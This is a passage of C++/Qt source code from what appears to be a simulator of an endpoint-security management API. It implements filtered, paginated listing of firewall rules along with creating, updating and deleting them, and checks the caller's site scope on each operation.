    d->iocs.erase(first, d->iocs.end());
    return dataReply(QJsonObject {{u"affected"_s, affected}});
}

// --- firewall control

SimReply SimTenant::listFirewallRules(const QUrlQuery &query, const SimCaller &caller)
{
    const Params p = paramsOf(query);
    static constexpr const char *filters[] = {"name", "name__contains", "siteIds", "accountIds", "tenant",
        "statuses", "osTypes", "directions", "actions", "ids"};
    bool any = false;
    for (const char *key : filters)
        any = any || p.contains(QString::fromLatin1(key));
    if (!any)
        return validationError(u"At least one filter is required: %1"_s.arg(joinNames(filters)));
    const QStringList accountIds = splitList(p.value(u"accountIds"_s));
    const QStringList siteIds = splitList(p.value(u"siteIds"_s));
    const QStringList ids = splitList(p.value(u"ids"_s));
    if (auto e = checkIdList(u"accountIds"_s, accountIds))
        return *e;
    if (auto e = checkIdList(u"siteIds"_s, siteIds))
        return *e;
    if (auto e = checkIdList(u"ids"_s, ids))
        return *e;
    if (auto e = d->checkScope(accountIds, siteIds, caller))
        return *e;
    int limit = DefaultLimit;
    if (auto e = parseIntParam(p, u"limit"_s, 1, MaxLimit, DefaultLimit, &limit))
        return *e;
    int tenantFlag = -1;
    if (auto e = parseBoolParam(p, u"tenant"_s, &tenantFlag))
        return *e;
    quint64 after = 0;
    const QString cursor = p.value(u"cursor"_s);
    if (!cursor.isEmpty()) {
        const auto o = decodeCursor(cursor, u"firewall"_s);
        const auto id = o ? parseId(o->value(u"after"_s).toString()) : std::nullopt;
        if (!id)
            return badCursor(cursor);
        after = *id;
    }
    const bool hasName = p.contains(u"name"_s);
    const QString name = p.value(u"name"_s).trimmed();
    const QString nameContains = p.value(u"name__contains"_s).trimmed();
    const QStringList statuses = splitList(p.value(u"statuses"_s));
    const QStringList osTypes = splitList(p.value(u"osTypes"_s));
    const QStringList directions = splitList(p.value(u"directions"_s));
    const QStringList actions = splitList(p.value(u"actions"_s));
    const bool scopeFilter = !accountIds.isEmpty() || !siteIds.isEmpty() || tenantFlag == 1;
    const quint64 ownSite = caller.isScoped() ? d->sites[std::size_t(caller.siteIndex)].id : 0;

    QJsonArray items;
    qsizetype total = 0;
    quint64 lastId = 0;
    bool more = false;
    for (const FirewallRule &rule : d->rules) {
        if (caller.isScoped() && !(rule.scope == ScopeSite && rule.scopeId == ownSite))
            continue;
        if (scopeFilter
            && !((rule.scope == ScopeAccount && accountIds.contains(idString(rule.scopeId)))
                || (rule.scope == ScopeSite && siteIds.contains(idString(rule.scopeId)))
                || (rule.scope == ScopeGlobal && tenantFlag == 1)))
            continue;
        const QString ruleName = rule.data.value(u"name"_s).toString();
        if (hasName && ruleName.compare(name, Qt::CaseInsensitive) != 0)
            continue;
        if (!nameContains.isEmpty() && !ruleName.contains(nameContains, Qt::CaseInsensitive))
            continue;
        if (!statuses.isEmpty()
            && !statuses.contains(rule.data.value(u"status"_s).toString(), Qt::CaseInsensitive))
            continue;
        if (!directions.isEmpty()
            && !directions.contains(rule.data.value(u"direction"_s).toString(), Qt::CaseInsensitive))
            continue;
        if (!actions.isEmpty()
            && !actions.contains(rule.data.value(u"action"_s).toString(), Qt::CaseInsensitive))
            continue;
        if (!ids.isEmpty() && !ids.contains(idString(rule.id)))
            continue;
        if (!osTypes.isEmpty()) {
            bool hit = false;
            const QJsonArray ruleOs = rule.data.value(u"osTypes"_s).toArray();
            for (const QJsonValue &os : ruleOs)
                hit = hit || osTypes.contains(os.toString(), Qt::CaseInsensitive);
            if (!hit)
                continue;
        }
        ++total;
        if (rule.id <= after)
            continue;
        if (items.size() < limit) {
            items.append(d->ruleJson(rule));
            lastId = rule.id;
        } else {
            more = true;
        }
    }
    const QString next = more
        ? encodeCursor(QJsonObject {{u"kind"_s, u"firewall"_s}, {u"after"_s, idString(lastId)}})
        : QString();
    return pagedReply(items, total, next);
}

SimReply SimTenant::addFirewallRule(const QByteArray &body, const SimCaller &caller)
{
    QJsonObject root;
    if (auto e = parseJsonBody(body, &root))
        return *e;
    if (!root.value(u"data"_s).isObject())
        return validationError(u"data: must be a firewall rule object"_s);
    QList<IocTarget> targets;
    if (auto e = writeTargets(*this, root.value(u"filter"_s), caller, &targets, true))
        return *e;
    QJsonObject data = root.value(u"data"_s).toObject();
    const QStringList errors = d->validateRule(data, false);
    if (!errors.isEmpty())
        return errorsReply(errors);
    for (const char *key : RuleServerKeys)
        data.remove(QString::fromLatin1(key));
    const QString name = data.value(u"name"_s).toString().trimmed();
    data.insert(u"name"_s, name);
    if (!data.contains(u"status"_s))
        data.insert(u"status"_s, u"Enabled"_s);
    if (!data.contains(u"direction"_s))
        data.insert(u"direction"_s, u"any"_s);
    if (!data.contains(u"osTypes"_s))
        data.insert(u"osTypes"_s, QJsonArray {u"windows"_s, u"windows_legacy"_s, u"macos"_s, u"linux"_s});

    const IocTarget target = targets.first();
    int order = 0;
    for (const FirewallRule &rule : d->rules) {
        if (rule.scope != target.scope || rule.scopeId != target.id)
            continue;
        if (rule.data.value(u"name"_s).toString() == name)
            return alreadyExists(u"A firewall rule named \"%1\" already exists in %2"_s.arg(
                name, d->scopeLabel(target.scope, target.id)));
        order = std::max(order, rule.order);
    }
    FirewallRule rule;
    rule.createdAt = d->now();
    rule.updatedAt = rule.createdAt;
    rule.id = d->makeId(d->idRng, rule.createdAt);
    rule.scope = target.scope;
    rule.scopeId = target.id;
    rule.order = order + 1;
    rule.data = data;
    d->rules.push_back(rule);
    std::sort(d->rules.begin(), d->rules.end(),
        [](const FirewallRule &a, const FirewallRule &b) { return a.id < b.id; });
    return dataReply(d->ruleJson(rule));
}

SimReply SimTenant::updateFirewallRule(const QString &ruleId, const QByteArray &body, const SimCaller &caller)
{
    const auto id = parseId(ruleId);
    const quint64 ownSite = caller.isScoped() ? d->sites[std::size_t(caller.siteIndex)].id : 0;
    FirewallRule *rule = nullptr;
    for (FirewallRule &r : d->rules) {
        if (id && r.id == *id && (!caller.isScoped() || (r.scope == ScopeSite && r.scopeId == ownSite)))
            rule = &r;
    }
    if (!rule)
        return notFound(u"Firewall rule %1 was not found"_s.arg(ruleId));
    QJsonObject root;
    if (auto e = parseJsonBody(body, &root))
        return *e;
    if (!root.value(u"data"_s).isObject())
        return validationError(u"data: must be a firewall rule object"_s);
    QJsonObject data = root.value(u"data"_s).toObject();
    const QStringList errors = d->validateRule(data, true);
    if (!errors.isEmpty())
        return errorsReply(errors);
    for (const char *key : RuleServerKeys)
        data.remove(QString::fromLatin1(key));
    if (data.contains(u"name"_s)) {
        const QString name = data.value(u"name"_s).toString().trimmed();
        data.insert(u"name"_s, name);
        for (const FirewallRule &other : d->rules) {
            if (other.id != rule->id && other.scope == rule->scope && other.scopeId == rule->scopeId
                && other.data.value(u"name"_s).toString() == name)
                return alreadyExists(u"A firewall rule named \"%1\" already exists in %2"_s.arg(
                    name, d->scopeLabel(rule->scope, rule->scopeId)));
        }
    }
    for (auto it = data.begin(); it != data.end(); ++it)
        rule->data.insert(it.key(), it.value());
    rule->updatedAt = d->now();
    return dataReply(d->ruleJson(*rule));
}

SimReply SimTenant::deleteFirewallRules(const QByteArray &body, const SimCaller &caller)
{
    QJsonObject root;
    if (auto e = parseJsonBody(body, &root))
        return *e;
    const QJsonValue idsValue = root.value(u"filter"_s).toObject().value(u"ids"_s);
    if (!idsValue.isArray() || idsValue.toArray().isEmpty())
        return validationError(u"filter.ids: must be a non-empty list of firewall rule ids"_s);
    const QStringList ids = jsonIdList(idsValue);
    const quint64 ownSite = caller.isScoped() ? d->sites[std::size_t(caller.siteIndex)].id : 0;
    const auto first = std::remove_if(d->rules.begin(), d->rules.end(), [&](const FirewallRule &r) {
        if (caller.isScoped() && !(r.scope == ScopeSite && r.scopeId == ownSite))
            return false;
        return ids.contains(idString(r.id));
    });
    const int affected = int(d->rules.end() - first);
    d->rules.erase(first, d->rules.end());
    return dataReply(QJsonObject {{u"affected"_s, affected}});
}

} // namespace s1sim
